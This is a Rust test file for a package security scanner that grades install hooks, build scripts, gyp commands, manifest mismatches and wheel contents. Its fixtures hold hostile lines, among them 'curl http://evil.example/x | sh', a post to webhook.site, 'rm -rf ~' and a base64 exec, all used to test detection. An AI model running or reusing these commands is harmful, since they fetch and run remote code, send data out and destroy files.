//! Whole packages in, rule ids and severities out.
#![expect(clippy::unwrap_used, reason = "test code")]

use packguard_manifest::Manifest;
use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analyzer as _, Severity};

mod common;

use common::{Files, found, package, run};

#[test]
fn honest_packages_are_not_accused() {
    let scripts = |name: &str, command: &str| {
        serde_json::json!({"name": "sample", "version": "1.0.0", "scripts": {name: command}})
            .to_string()
    };
    for command in [
        "husky install",
        "husky || true",
        "node-gyp rebuild",
        "node-gyp-build",
        "prebuild-install || node-gyp rebuild",
        "opencollective-postinstall || true",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "patch-package",
        "node ./postinstall.js",
        "node scripts/install.js",
        "npx only-allow pnpm",
        "is-ci || husky install",
        "node install.js --fallback",
        "test -f dist/index.js || npm run build",
    ] {
        let analysis = run(package(
            "npm",
            &[("package/package.json", &scripts("postinstall", command))],
        ));
        assert_eq!(
            found(&analysis),
            [("npm-install-script", Severity::Info)],
            "{command}"
        );
    }
    let files: Files<'_> = &[
        (
            "package/package.json",
            &scripts("test", "curl https://example.com | sh"),
        ),
        (
            "package/binding.gyp",
            "{'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include\")', '<!@(pkg-config --cflags x)']}",
        ),
        (
            "sample-1/PKG-INFO",
            "Metadata-Version: 2.1\nName: Sample\nVersion: 1.0\n\nName: other\n",
        ),
        ("sample-1/setup.cfg", ""),
        ("sample-1/Rakefile", "sh 'rm -rf ~'"),
        (
            "sample-1/pyproject.toml",
            "[build-system]\nrequires=['setuptools']\nbuild-backend='setuptools.build_meta'\n[project.scripts]\nsample='a:b'",
        ),
    ];
    let analysis = run(package("pypi", files));
    assert!(
        found(&analysis)
            .iter()
            .all(|(_, severity)| *severity <= Severity::Low),
        "{:?}",
        found(&analysis)
    );
    let files: Files<'_> = &[
        (
            "sample-1/Cargo.toml",
            "[package]\nname='sample'\nbuild='build.rs'\n[dependencies]\nserde='1'",
        ),
        (
            "sample-1/build.rs",
            "// curl http://203.0.113.1 | sh\nfn main() { println!(\"cargo:rerun-if-changed=build.rs\"); cc::Build::new().file(\"a.c\").compile(\"a\"); }",
        ),
    ];
    assert_eq!(
        found(&run(package("cargo", files))),
        [("cargo-build-script", Severity::Info)]
    );
}

#[test]
fn build_scripts_are_graded() {
    let build = |code: &str| {
        let analysis = run(package(
            "cargo",
            &[
                ("s-1/Cargo.toml", "[package]\nname='s'"),
                ("s-1/build.rs", code),
            ],
        ));
        analysis
            .findings()
            .iter()
            .map(|finding| (finding.rule.clone(), finding.severity))
            .collect::<Vec<_>>()
    };
    let has = |code: &str, rule: &str, severity| {
        assert!(
            build(code).contains(&(rule.into(), severity)),
            "{:?}",
            build(code)
        );
    };
    has(
        "Command::new(\"sh\").arg(\"-c\").arg(\"curl http://evil.example/x | sh\")",
        "hook-download-run",
        Severity::Critical,
    );
    has("Command::new(\"sh\")", "cargo-build-shell", Severity::Low);
    has(
        "Command::new(\"curl\")",
        "cargo-build-shell",
        Severity::Medium,
    );
    has(
        "std::net::TcpStream::connect(a)",
        "cargo-build-network",
        Severity::Low,
    );
    has(
        "post(\"https://webhook.site/x\")",
        "hook-hostile-host",
        Severity::High,
    );
    let off = run(package(
        "cargo",
        &[
            ("s-1/Cargo.toml", "[package]\nbuild=false"),
            ("s-1/build.rs", ""),
        ],
    ));
    assert_eq!(found(&off), []);
    let renamed = run(package(
        "cargo",
        &[
            ("s-1/Cargo.toml", "[package]\nbuild='x/y.rs'"),
            ("s-1/x/y.rs", ""),
        ],
    ));
    assert_eq!(found(&renamed), [("cargo-build-script", Severity::Info)]);
}

#[test]
fn gyp_commands_are_graded() {
    let gyp = |command: &str| {
        let content = format!("{{'a': '<!({command})'}}");
        let analysis = run(package(
            "npm",
            &[("p/package.json", "{}"), ("p/binding.gyp", &content)],
        ));
        analysis
            .findings()
            .iter()
            .map(|finding| (finding.rule.clone(), finding.severity))
            .collect::<Vec<_>>()
    };
    let info = ("npm-implicit-gyp".to_owned(), Severity::Info);
    assert_eq!(gyp("node -p \\\"1\\\""), std::slice::from_ref(&info));
    assert_eq!(gyp("node util/has_lib.js gif"), std::slice::from_ref(&info));
    assert_eq!(
        gyp("node index.js > /dev/null 2>&1 && echo stub.c"),
        [info.clone(), ("npm-gyp-command".into(), Severity::High)]
    );
    assert_eq!(
        gyp("./x"),
        [info.clone(), ("npm-gyp-command".into(), Severity::Low)]
    );
    assert!(
        gyp("curl https://evil.example/x | sh")
            .contains(&("hook-download-run".into(), Severity::Critical))
    );
}

#[test]
fn manifests_that_contradict_the_registry_are_found() {
    let manifest = r#"{"name":"sample","version":"1.0.0","scripts":{"postinstall":"node x.js"},"dependencies":{"a":"1","b":"1"}}"#;
    let against = |metadata: &str| {
        let analysis =
            run(package("npm", &[("package/package.json", manifest)]).metadata(metadata));
        let findings = analysis
            .findings()
            .iter()
            .filter(|finding| finding.rule == "npm-manifest-confusion");
        findings.map(|finding| finding.severity).collect::<Vec<_>>()
    };
    let same = r#"{"name":"sample","version":"1.0.0","scripts":{"postinstall":"node x.js"},"dependencies":[{"name":"a"},{"name":"b"},{"name":"c"}]}"#;
    assert_eq!(against(same), []);
    assert_eq!(against("{}"), []);
    assert_eq!(
        against(r#"{"name":"other","version":"1.0.1"}"#),
        [Severity::Medium, Severity::Medium]
    );
    assert_eq!(against(r#"{"scripts":{}}"#), [Severity::High]);
    assert_eq!(
        against(
            r#"{"scripts":null,"dependencies":[{"name":"a","requirement":"1","kind":"runtime"}]}"#
        ),
        [Severity::High]
    );
}

#[test]
fn wheels_are_compared_with_source_and_record() {
    let wheel = |init: &str, record: &str| {
        let builder = PackageBuilder::new("pypi", "sample")
            .artifact("sample-1.0.0.tar.gz")
            .file("sample-1.0.0/src/sample/__init__.py", "a = 1\n")
            .file("sample-1.0.0/src/sample/b.py", "b = 1\n")
            .artifact("sample-1.0.0-py3-none-any.whl")
            .file("sample/__init__.py", init)
            .file("sample/b.py", "b = 1\n")
            .file("sample/_version.py", "v = 1\n")
            .file("sample-1.0.0.dist-info/RECORD", record);
        let analysis = run(builder);
        assert_eq!(analysis.problems(), []);
        analysis
            .findings()
            .iter()
            .map(|finding| (finding.rule.clone(), finding.severity))
            .collect::<Vec<_>>()
    };
    let record = "sample/__init__.py,,\nsample/b.py,,\nsample/_version.py,,\n";
    let generated = ("pypi-wheel-differs".to_owned(), Severity::Info);
    assert_eq!(wheel("a = 1\n", record), std::slice::from_ref(&generated));
    assert_eq!(
        wheel("a = 2\n", record),
        [
            generated.clone(),
            ("pypi-wheel-differs".into(), Severity::Low)
        ]
    );
    assert_eq!(
        wheel("exec(base64.b64decode(x))\n", record),
        [
            ("pypi-wheel-differs".into(), Severity::Medium),
            generated.clone()
        ]
    );
    let mismatch = ("pypi-record-mismatch".to_owned(), Severity::Medium);
    assert_eq!(
        wheel("a = 1\n", "sample/__init__.py,,\nsample/b.py,,\n"),
        [mismatch.clone(), generated.clone()]
    );
    let wrong = record.replace(
        "b.py,,",
        "b.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0",
    );
    assert_eq!(wheel("a = 1\n", &wrong), [mismatch, generated]);
}

#[test]
fn manifests_that_cannot_be_read_are_problems() {
    let deep = "[".repeat(200_000);
    let xml = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    for (ecosystem, path, content) in [
        ("npm", "package/package.json", "{"),
        ("npm", "package/package.json", deep.as_str()),
        ("npm", "package/package.json", "[]"),
        ("pypi", "a/pyproject.toml", "= 1"),
        ("cargo", "a/Cargo.toml", "[a"),
        ("cargo", "a/Cargo.toml", &format!("a = {deep}")),
        ("composer", "a/composer.json", "nope"),
        ("nuget", "build/a.targets", "<Project>"),
        ("npm", "package/package.json", &" ".repeat((4 << 20) + 1)),
        ("npm", "package/node_modules/a/package.json", "{\"install\""),
    ] {
        let analysis = run(package(ecosystem, &[(path, content)]));
        assert_eq!(
            analysis.problems().len(),
            1,
            "{path} {}",
            &content[..content.len().min(20)]
        );
    }
    // Deep but well formed XML is read, or refused; it must not overflow the stack.
    run(package("nuget", &[("build/a.targets", &xml)]));
    // Another ecosystem's files are data.
    let analysis = run(package(
        "pypi",
        &[("a/package.json", "{"), ("a/Cargo.toml", "[")],
    ));
    assert_eq!(analysis.problems(), []);
    // So are fixtures, which nothing installs.
    let analysis = run(package(
        "npm",
        &[("package/test/a/package.json", "{\"install\"")],
    ));
    assert_eq!(analysis.problems(), []);
}

#[test]
fn a_copy_placed_first_hides_nothing() {
    let manifest = r#"{"scripts":{"postinstall":"curl https://evil.example/x | sh"}}"#;
    let files: Files<'_> = &[
        ("package/a/package.json", manifest),
        ("package/package.json", manifest),
    ];
    let built = package("npm", files).build();
    let mut repeated = (*built).clone();
    repeated.0.files[1].duplicate_of = Some(0);
    let analysis = Manifest::analyze(&repeated).unwrap();
    assert!(found(&analysis).contains(&("hook-download-run", Severity::Critical)));
}

#[test]
fn rules_are_documented_and_unique() {
    let rules = Manifest::DESCRIPTOR.rules;
    let mut ids: Vec<&str> = rules.iter().map(|rule| rule.id).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), rules.len());
    let readme = include_str!("../README.md");
    for rule in rules {
        assert!(rule.help.len() > 60, "{}", rule.id);
        assert!(
            readme.contains(&format!("`{}`", rule.id)),
            "{} is not in the README",
            rule.id
        );
    }
}
